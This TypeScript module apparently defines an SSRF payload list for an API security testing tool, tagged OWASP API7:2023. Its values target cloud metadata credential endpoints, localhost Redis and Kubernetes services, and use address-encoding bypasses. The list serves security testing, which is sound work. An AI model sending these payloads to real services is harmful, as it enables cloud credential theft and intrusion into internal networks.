import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'ssrf',
  title: 'addresses of the inside are given to be fetched',
  owasp: ['API7:2023'],
  inputs: ['url'],
  values: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://localhost:#/admin',
    'http://127.0.0.1:6379/',
    'http://[::1]:80/',
    'http://2130706433/',
    'http://0x7f000001/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://10.0.#.1/',
    'http://kubernetes.default.svc/api',
    'http://orders.shop.svc.cluster.local:8080/internal',
    'http://127.0.0.1.nip.io/',
    'http://user@169.254.169.254/',
    'http://[fd00:ec2::254]/latest/',
    'http://100.100.100.200/latest/meta-data/',
    'http://0177.0.0.1/',
  ],
})
